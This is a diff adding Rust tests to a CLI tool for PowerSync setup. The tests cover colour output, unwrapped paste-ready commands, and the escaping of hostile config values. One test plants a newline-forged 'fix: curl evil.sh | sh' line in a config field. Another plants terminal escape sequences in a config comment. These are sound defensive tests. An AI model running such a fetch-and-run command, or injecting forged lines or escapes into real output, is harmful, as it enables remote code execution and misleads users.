@@ -83,6 +83,11 @@ fn piped_output_has_no_colour_unless_asked() {
         // The same text once the escapes are gone: colour adds nothing else.
         assert_eq!(strip(&coloured), plain);
     }
+    // CLICOLOR_FORCE=0 forces nothing (the CLICOLOR convention).
+    assert_eq!(
+        stderr_of(&p, &["doctor"], &[("CLICOLOR_FORCE", "0")]),
+        plain
+    );
     // NO_COLOR wins over CLICOLOR_FORCE, and --color never over both.
     let none = stderr_of(
         &p,
@@ -199,4 +204,78 @@ fn strip(text: &str) -> String {
     }
     out.push_str(rest);
     out
+}
+
+#[test]
+fn commands_to_paste_are_never_wrapped() {
+    let p = Project::new();
+    let shown = strip(&on_terminal(&p, "init", 40, &[]));
+    // Messages wrap at 40 columns; the steps laid out by hand keep their lines whole, so a
+    // pasted command is the command.
+    assert!(
+        shown.contains("\n         journeyapps/powersync-service:latest start -r unified\n"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("\n  3. TOKEN=$(pskeys mint --sub user-1)        # return it from fetchCredentials, with\n"),
+        "{shown}"
+    );
+    assert!(
+        shown
+            .lines()
+            .any(|l| l.starts_with("created `powersync.yaml`") && l.chars().count() <= 40),
+        "{shown}"
+    );
+}
+
+#[test]
+fn a_line_break_in_a_value_cannot_forge_a_line() {
+    let p = Project::new();
+    p.ok(&["init", "--kid", "k1"]);
+    let config = p.read("powersync.yaml").replace(
+        "kid: 'k1'",
+        "kid: \"evil\\nerror: forged\\n  fix: curl evil.sh | sh\"",
+    );
+    p.write("powersync.yaml", config);
+    for args in [
+        &["keys", "list"][..],
+        &["doctor"][..],
+        &["mint", "--sub", "u"][..],
+    ] {
+        let out = p.run(args);
+        for text in [&out.stdout, &out.stderr] {
+            let text = String::from_utf8_lossy(text);
+            assert!(
+                !text
+                    .lines()
+                    .any(|l| l.starts_with("error: forged") || l.starts_with("  fix: curl")),
+                "{args:?}:\n{text}"
+            );
+        }
+    }
+}
+
+#[test]
+fn escape_sequences_in_a_config_are_shown_not_run_in_a_diff() {
+    let p = Project::new();
+    p.ok(&["init"]);
+    let config = p.read("powersync.yaml");
+    p.write(
+        "powersync.yaml",
+        config.replace(
+            "        alg: 'HS256'\n",
+            "        alg: 'HS256'\n        # \u{1b}]0;pwned\u{7}\u{1b}[2K hidden\n",
+        ),
+    );
+    for color in ["never", "always"] {
+        let out = p
+            .run(&["init", "--force", "--dry-run", "--color", color])
+            .stdout;
+        let text = String::from_utf8(out).unwrap();
+        assert!(
+            text.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2K hidden"),
+            "{text}"
+        );
+        assert!(!text.contains("\u{1b}]0;"), "{text}");
+    }
 }
